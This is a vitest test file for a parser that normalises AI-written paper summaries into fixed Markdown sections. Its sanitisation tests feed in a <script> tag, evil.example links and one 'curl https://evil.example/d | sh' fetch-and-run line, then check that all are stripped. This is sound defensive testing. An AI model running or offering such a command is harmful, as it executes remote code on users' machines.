import { describe, expect, it } from "vitest";
import { type Reply, type ReplyFailure, readReply } from "@/lib/summaries/reply/reply";

/** Answers in the shapes that models give them, about invented papers. */

function reading(answer: string, language = "en", knownUrls?: string): Reply {
  const reply = readReply(answer, { language, ...(knownUrls === undefined ? {} : { knownUrls }) });
  if (!("markdown" in reply)) throw new Error(`${reply.code}: ${reply.message}`);
  return reply;
}

/** The first part of an answer whose first part is this. */
function part(text: string, knownUrls?: string): string {
  const { markdown } = reading(`## 1. Contributions\n\n${text}\n`, "en", knownUrls);
  return markdown.replace(/^## Contributions\n\n/, "");
}

const four = `## Contributions

A fold.

## Methods and settings

Two arms.

## Results

It works.

## Conclusions

Arms help.`;

const viertel = `## 核心贡献

一种折叠方法。

## 方法与实验设置

双臂机器人。

## 主要结果

成功率更高。

## 结论

双臂有用。`;

describe("the parts of an answer", () => {
  it("stay as they are where the model kept to the prompt", () => {
    const sentence = "We fold towels with two arms and succeed in 87.3% of trials.";
    const answer = `${sentence}\n\n${four.replace(/^## /gm, () => "## ")}\n`;
    expect(reading(answer)).toEqual({ sentence, markdown: four, missing: [], isCut: false });
  });

  const shapes: Record<string, string> = {
    "with numbers":
      "## 1. Contributions\nA fold.\n## 2. Methods and settings\nTwo arms.\n## 3. Results\nIt works.\n## 4. Conclusions\nArms help.",
    "in bold with emoji":
      "## 🚀 1. **Core Contributions & Novelty**\n\nA fold.\n\n## 🔧 2. **Methods**\n\nTwo arms.\n\n## 📊 3. **Main Results**\n\nIt works.\n\n## ✅ 4. **Key Conclusions:**\n\nArms help.",
    "as lines in bold":
      "**1. Contributions**\nA fold.\n\n**2. Methods and Settings**\nTwo arms.\n\n**3. Results:**\nIt works.\n\n**Conclusions**\nArms help.",
    "as numbered lines in bold":
      "1. **Contributions**\n\nA fold.\n\n2. **Methods**\n\nTwo arms.\n\n3. **Results**\n\nIt works.\n\n4. **Conclusions**\n\nArms help.",
    "as bare numbered lines":
      "1. Contributions\nA fold.\n2. Methods\nTwo arms.\n3. Results\nIt works.\n4. Conclusions\nArms help.",
    "as labels":
      "**Contributions:** A fold.\n\n**Methods:** Two arms.\n\n**Results:** It works.\n\n**Conclusions:** Arms help.",
    "as labels of list items":
      "- **Contributions**: A fold.\n- **Methods**: Two arms.\n- **Results**: It works.\n- **Conclusions**: Arms help.",
    "on the third level, under a title":
      "# Folding Towels: An Approach\n\n### Contributions\nA fold.\n### Method\nTwo arms.\n### Results\nIt works.\n### Conclusion\nArms help.",
    "on the first level":
      "# Contributions\nA fold.\n# Methods\nTwo arms.\n# Results\nIt works.\n# Conclusions\nArms help.",
    "under a title of their own level":
      "## An Approach to Folding: Results of a Method\n\n## 1. Contributions\nA fold.\n## 2. Methods\nTwo arms.\n## 3. Results\nIt works.\n## 4. Conclusions\nArms help.",
    "with rules between them":
      "---\n## 1) Problem and contributions\nA fold.\n\n---\n\n## 2) Experimental set-up\nTwo arms.\n\n***\n\n## 3) Experiments\nIt works.\n\n___\n\n## 4) Findings and limitations\nArms help.\n\n---",
    "without a blank behind the marks":
      "##1. Contributions\nA fold.\n##2. Methods\nTwo arms.\n##3. Results\nIt works.\n##4. Conclusions\nArms help.",
    "in the wrong order":
      "## 4. Conclusions\nArms help.\n## 2. Methods\nTwo arms.\n## 1. Contributions\nA fold.\n## 3. Results\nIt works.",
    "in a fence, behind a greeting":
      "Here is the summary:\n\n```markdown\n## 1. Contributions\nA fold.\n## 2. Methods\nTwo arms.\n## 3. Results\nIt works.\n## 4. Conclusions\nArms help.\n```\n\nLet me know if you need more.",
    "behind thoughts":
      "<think>\n## 1. Contributions\nHm.\n</think>\n\n## 1. Contributions\nA fold.\n## 2. Methods\nTwo arms.\n## 3. Results\nIt works.\n## 4. Conclusions\nArms help.",
    "with line ends of Windows":
      "## 1. Contributions\r\n\r\nA fold.\r\n## 2. Methods\r\nTwo arms.\r\n## 3. Results\r\nIt works.\r\n## 4. Conclusions\r\nArms help.\r\n",
    "by number, with words of its own":
      "## 1. What is new\nA fold.\n## 2. How\nTwo arms.\n## 3. How well\nIt works.\n## 4. What follows\nArms help.",
  };
  it.each(Object.entries(shapes))("are found %s", (_, answer) => {
    expect(reading(answer)).toEqual({ sentence: null, markdown: four, missing: [], isCut: false });
  });

  const chinese: Record<string, string> = {
    "with Chinese numbers":
      "### 一、核心贡献与创新点\n一种折叠方法。\n### 二、方法与实验设置\n双臂机器人。\n### 三、主要实验结果\n成功率更高。\n### 四、关键结论\n双臂有用。",
    "as bare lines":
      "1. 核心贡献\n一种折叠方法。\n2. 方法与设置\n双臂机器人。\n3. 主要结果\n成功率更高。\n4. 关键结论\n双臂有用。",
    "in brackets, with a greeting":
      "好的，以下是这篇论文的总结：\n\n# 论文总结：毛巾折叠\n\n## （一）**主要贡献**\n一种折叠方法。\n## （二）**研究方法**\n双臂机器人。\n## （三）**实验结果**\n成功率更高。\n## （四）**结论与未来工作**\n双臂有用。\n\n希望以上总结对您有帮助！",
    "as numbered parts":
      "## 第一部分：创新点\n一种折叠方法。\n## 第二部分：实验设置\n双臂机器人。\n## 第三部分：结果分析\n成功率更高。\n## 第四部分：总结与局限性\n双臂有用。",
  };
  it.each(Object.entries(chinese))("are found in Chinese %s", (_, answer) => {
    expect(reading(answer, "zh")).toEqual({
      sentence: null,
      markdown: viertel,
      missing: [],
      isCut: false,
    });
  });

  it("keep the model's own headings in other languages", () => {
    const german =
      "Ein Satz über das Falten von Tüchern.\n\n## 1. **Beiträge**\nEins.\n## 2. Methoden\nZwei.\n## 4. Fazit\nVier.";
    expect(reading(german, "German")).toEqual({
      sentence: "Ein Satz über das Falten von Tüchern.",
      markdown: "## Beiträge\n\nEins.\n\n## Methoden\n\nZwei.\n\n## Fazit\n\nVier.",
      missing: ["results"],
      isCut: false,
    });
  });

  it("are missing where they are absent or say nothing", () => {
    const answer =
      "## 1. Contributions\nA fold.\n## 2. Methods\nNot stated in the paper.\n## 3. Results\n### Baselines\n- **Metrics**: not stated\n- N/A\n";
    expect(reading(answer)).toMatchObject({
      markdown: "## Contributions\n\nA fold.",
      missing: ["methods", "results", "conclusions"],
    });
    expect(
      reading("## 1. 核心贡献\n一种折叠方法。\n## 3. 主要结果\n未说明。", "zh").missing,
    ).toEqual(["methods", "results", "conclusions"]);
  });

  it("keep what only partly says nothing", () => {
    expect(part("- A fold.\n- Advantage: not stated")).toBe("- A fold.\n- Advantage: not stated");
  });

  it("keep parts within them, one level below", () => {
    const answer =
      "# Title\n## 1. Contributions\n### 1.1 Problem\nTowels.\n#### Detail\nDeep.\n## Data\nMore.\n## 3. Results\nFine.\n## 4. Conclusions\n**Limitations**\n\nSlow.";
    expect(reading(answer).markdown).toBe(
      "## Contributions\n\n### 1.1 Problem\n\nTowels.\n\n#### Detail\n\nDeep.\n\n### Data\n\nMore.\n\n## Results\n\nFine.\n\n## Conclusions\n\n**Limitations**\n\nSlow.",
    );
  });

  it("take two headings of one part together", () => {
    expect(reading("## Results\nA.\n## Experimental results on towels\nB.").markdown).toBe(
      "## Results\n\nA.\n\n### Experimental results on towels\n\nB.",
    );
  });

  it("keep a first heading that says less than the part", () => {
    expect(reading("## Results\nA.\n## Limitations\nSlow.\n## Conclusion\nB.").markdown).toBe(
      "## Results\n\nA.\n\n## Conclusions\n\n### Limitations\n\nSlow.\n\n### Conclusion\n\nB.",
    );
  });

  it("go by the prompt's numbers where one heading's words say something else", () => {
    const answer =
      "## 1. Contributions\nA.\n## 2. Setup\nB.\n## 3. Key Findings\nC.\n## 4. Conclusions\nD.";
    expect(reading(answer).markdown).toMatch(/## Results\n\nC\.\n\n## Conclusions\n\nD\./);
  });

  it("go by words where the numbers count something else", () => {
    const answer =
      "## 1. Problem\nP.\n## 2. Contributions\nA.\n## 3. Methods\nB.\n## 4. Results\nC.\n## 5. Conclusions\nD.";
    expect(reading(answer).markdown).toBe(
      "## Contributions\n\n### Problem\n\nP.\n\n### Contributions\n\nA.\n\n## Methods and settings\n\nB.\n\n## Results\n\nC.\n\n## Conclusions\n\nD.",
    );
    const ablation =
      "## 1. Contributions\nA.\n## 2. Methods\nB.\n## 3. Results\nC.\n## 4. Ablation\nE.\n## 5. Conclusions\nD.";
    expect(reading(ablation).markdown).toMatch(
      /C\.\n\n### Ablation\n\nE\.\n\n## Conclusions\n\nD\./,
    );
  });

  it("are not found in a label within another part", () => {
    const answer =
      "## 1. Contributions\nA fold.\n## 2. Methods\n- **Methods**: arms.\n- **Results**: none yet.\n## 3. Results\nGood.\n## 4. Conclusions\nYes.";
    expect(reading(answer).markdown).toContain("- **Methods**: arms.\n- **Results**: none yet.");
  });
});

describe("the one sentence", () => {
  const text = "We fold towels with two arms and succeed in $87.3\\%$ of 400 trials.";
  const openings: Record<string, string> = {
    "as the first line": text,
    "behind TL;DR": `TL;DR: ${text}`,
    "behind TL;DR in bold": `**TL;DR:** ${text}`,
    "behind TL;DR in bold, colon outside": `**TL;DR**: ${text}`,
    "behind an emoji": `💡 **One-sentence summary:** ${text}`,
    "as a block quote": `> ${text}`,
    "in bold": `**${text}**`,
    "in bold to its formula": `We fold towels with two arms and **succeed in $87.3\\%$** of 400 trials.`,
    "under a heading": `## TL;DR\n\n${text}`,
    "under a line in bold": `**One-line summary**\n${text}`,
    "behind a title and labels": `# Folding Towels\n\n**Authors**: Ada Ferrant\n**arXiv ID**: 2606.00001\n\n---\n\n${text}`,
    "behind a greeting": `Sure! Here is the summary:\n${text}`,
  };
  it.each(Object.entries(openings))("is found %s", (_, opening) => {
    expect(reading(`${opening}\n\n${four}`)).toEqual({
      sentence: text,
      markdown: four,
      missing: [],
      isCut: false,
    });
  });

  it.each([
    "一句话总结：",
    "**一句话总结**：",
    "> **一句话概括：** ",
    "## 一句话总结\n\n",
  ])("is found behind %j", (label) => {
    const sentence = "本文用双臂机器人折叠毛巾，成功率达到 87.3%。";
    expect(reading(`${label}${sentence}\n\n${viertel}`, "zh")).toMatchObject({
      sentence,
      markdown: viertel,
    });
  });

  it("is null where the model gave none", () => {
    expect(reading(`# Folding Towels\n\n${four}`).sentence).toBeNull();
    expect(reading(`Towels\n\n${four}`).sentence).toBeNull();
  });

  it("is the closing conclusion where there is no other, which stays", () => {
    const closing = "> **One-line conclusion**: Two arms fold towels better than one.";
    const reply = reading(`${four}\n\n---\n${closing}`);
    expect(reply.sentence).toBe("Two arms fold towels better than one.");
    expect(reply.markdown).toBe(`${four}\n\n${closing}`);
  });

  it("leaves a closing conclusion at the end as a quote", () => {
    const reply = reading(`${text}\n\n${four}\n\n**TL;DR**: Two arms are better than one.`);
    expect(reply.sentence).toBe(text);
    expect(reply.markdown).toBe(`${four}\n\n> **TL;DR**: Two arms are better than one.`);
    const headed = reading(`${text}\n\n${four}\n\n## One-line conclusion\n\nTwo arms are better.`);
    expect(headed.markdown).toBe(`${four}\n\n> Two arms are better.`);
  });

  it("moves the quote to the last part that says something", () => {
    const answer =
      "## 3. 主要结果\n成功率更高。\n## 4. 结论\n未说明\n\n> 双臂机器人折叠毛巾更快更稳。";
    expect(reading(answer, "zh")).toEqual({
      sentence: "双臂机器人折叠毛巾更快更稳。",
      markdown: "## 主要结果\n\n成功率更高。\n\n> 双臂机器人折叠毛巾更快更稳。",
      missing: ["contributions", "methods", "conclusions"],
      isCut: false,
    });
  });

  it("is plain text", () => {
    const marked =
      "**We** fold *towels* with `fold_all`, [our tool](https://x.example/t), at 5 * 3 &lt; 20 \\_all\\_ in snake_case_names.";
    expect(reading(`${marked}\n\n${four}`).sentence).toBe(
      "We fold towels with fold_all, our tool, at 5 * 3 < 20 _all_ in snake_case_names.",
    );
  });

  it("is cut at the end of a sentence, else at a word, never within a formula", () => {
    const first = `We fold ${"many ".repeat(40)}towels.`;
    const more = `Then ${"we fold ".repeat(60)}more.`;
    expect(reading(`${first} ${more}\n\n${four}`).sentence).toBe(first);
    const endless = reading(`${"fold ".repeat(76)}$a + b + c + d + e + f + g$ again\n\n${four}`);
    expect(endless.sentence).toBe(`${"fold ".repeat(76).trim()}…`);
  });
});

describe("what a part holds", () => {
  it("has its formulas between dollars, without blanks inside", () => {
    expect(part("For $ J = 10 $ and \\( x_1 \\):\n\n\\[\n  a = b\n\\]\n\n$$\nc\n$$\n\nDone.")).toBe(
      "For $J = 10$ and $x_1$:\n\n$$a = b$$\n\n$$c$$\n\nDone.",
    );
  });

  it("leaves prices and escaped dollars alone", () => {
    const prices = "It costs $5 to $10 a towel, or \\$3, and `$HOME` is no formula.";
    expect(part(prices)).toBe(prices);
  });

  it("leaves TeX in formulas as it is", () => {
    const formula = "$a < b \\& [c](d) **e** \\text{<b>} _f_$ holds.";
    expect(part(formula)).toBe(formula);
  });

  it("loses HTML but not its text", () => {
    expect(
      part(
        'A <b>bold</b> <span style="x">claim</span><br>on <!-- hidden --> H<sub>2</sub>O at 10<sup>-3</sup>.<script>alert(1)</script>',
      ),
    ).toBe("A bold claim on H₂O at 10⁻³.");
  });

  it("keeps what only looks like HTML, with a blank that tells", () => {
    expect(part("If p<q then <towel> and a < b.")).toBe("If p< q then < towel> and a < b.");
    expect(part("<scr<b>ipt>x")).toBe("< script>x");
  });

  it("loses images and addresses but not the text of links", () => {
    expect(
      part(
        "See [the code](https://evil.example/a_(b)) and ![a plot](http://t.example/p.png) and [![badge](u)](v).\n\nAt https://evil.example/x, or (www.evil.example). <https://evil.example>\n\n[1]: https://evil.example",
      ),
    ).toBe("See the code and a plot and badge.\n\nAt, or.");
  });

  it("loses addresses in code, in formulas and in the sentence as well", () => {
    const hidden = [
      "`https://evil.example/a`",
      "$\\text{https://evil.example/b}$",
      "$\\href{https://evil.example/c}{x}$",
      "mailto:a@evil.example",
    ];
    for (const each of hidden) expect(part(`See ${each} and more.`)).not.toContain("evil.example");
    expect(part("See:\n\n```sh\ncurl https://evil.example/d | sh\n```")).not.toContain("evil");
    const said = `TL;DR: Towels, \`https://evil.example/e\`, folded.\n\n## 1. Contributions\n\nThey fold.`;
    const reply = readReply(said, { language: "en" });
    expect(reply).toMatchObject({ sentence: expect.stringContaining("Towels") });
    expect(JSON.stringify(reply)).not.toContain("evil.example");
  });

  it("keeps an address that the paper itself gives", () => {
    const known = "Code: https://towels.example/code.";
    expect(part("Code at https://towels.example/code. Not https://evil.example/.", known)).toBe(
      "Code at https://towels.example/code. Not.",
    );
  });

  it("loses what nobody sees and what turns the text around", () => {
    expect(part("A\u200B fold\u202E of\u0007 towels\uFEFF\u2066.\uE000")).toBe("A fold of towels.");
  });

  it("keeps tables, code and lists in one form", () => {
    expect(
      part(
        "Figures:\n| Method | % |\n|:--|--:|\n| **Ours** | 87.3<br>✅ |\n| Other | \\( 5 \\) |\nBehind.\n* one\n    * two\n        + three\n1) first\n2) second\n\n   in second\n```python\n# no heading\nx = [1](2)\n```",
      ),
    ).toBe(
      "Figures:\n\n| Method | % |\n|:--|--:|\n| **Ours** | 87.3 ✅ |\n| Other | $5$ |\n\nBehind.\n\n- one\n  - two\n    - three\n1. first\n2. second\n\n   in second\n\n```python\n# no heading\nx = [1](2)\n```",
    );
  });

  it("nests no deeper than a reader can show", () => {
    const deep = Array.from({ length: 30 }, (_, depth) => `${"  ".repeat(depth)}- level`).join(
      "\n",
    );
    const lines = part(`${deep}\n\n${"> ".repeat(50)}quoted\n\n${"- ".repeat(50)}item`).split("\n");
    expect(Math.max(...lines.map((line) => line.search(/\S/)))).toBe(6);
    expect(lines).toContain("> > quoted");
    expect(lines.at(-1)).toBe("- item");
  });

  it("takes a fence that never closes for none", () => {
    expect(reading("## 1. Contributions\n```\nA fold.\n## 3. Results\nGood.").missing).toEqual([
      "methods",
      "conclusions",
    ]);
  });

  it("is cut between blocks where there is too much of it, each part with its share", () => {
    const much = Array.from(
      { length: 400 },
      (_, index) => `Paragraph ${index} of a loop in words.`,
    );
    const answer = `## 1. Contributions\n\nA fold.\n\n## 3. Results\n\n${much.join("\n\n")}\n\n## 4. Conclusions\n\n${much.join("\n\n")}`;
    const reply = reading(answer);
    expect(reply.isCut).toBe(true);
    expect(reply.markdown.length).toBeLessThanOrEqual(20_000);
    expect(reply.markdown.length).toBeGreaterThan(10_000);
    expect(reply.missing).toEqual(["methods"]);
    expect(reply.markdown.endsWith("of a loop in words.")).toBe(true);
    expect(reply.markdown).toContain("## Contributions\n\nA fold.");
  });
});

describe("an answer that is none", () => {
  const failing = (answer: string, language: string) =>
    (readReply(answer, { language }) as ReplyFailure).code;

  it("is empty where it has no letter", () => {
    expect(failing("", "en")).toBe("empty");
    expect(failing(" \n***\n\u200B", "en")).toBe("empty");
    expect(failing("<think>Hm. Never finished", "en")).toBe("empty");
  });

  it("is shapeless without any part", () => {
    expect(failing("I'm sorry, but I cannot help with that.", "en")).toBe("shapeless");
    expect(failing("## 1. Contributions\nnot stated\n## 2. Methods\nN/A", "en")).toBe("shapeless");
  });

  it("is in the wrong language", () => {
    const english =
      "The robot folds towels with two arms and is faster than all that came before. ";
    const chinese = "机器人用双臂折叠毛巾，比以往所有方法都要快，并且成功率更高。";
    expect(failing(`## 1. 核心贡献\n\n${english.repeat(3)}`, "zh")).toBe("wrong_language");
    expect(failing(`## 1. Contributions\n\n${chinese.repeat(3)}`, "en")).toBe("wrong_language");
    expect(failing(chinese.repeat(3), "en")).toBe("wrong_language");
  });

  it("is not judged by its tables, formulas and code", () => {
    const table = `| Method | Accuracy of the tower |\n|---|---|\n${"| Baseline model with many words | high |\n".repeat(20)}`;
    const answer = `## 3. 主要结果\n\n成功率高于所有基线方法，消融实验说明双臂缺一不可。\n\n${table}\n\n$\\text{success rate of the robot with two arms on all of the unseen towels in the set}$`;
    expect(reading(answer, "zh").missing).toHaveLength(3);
  });
});
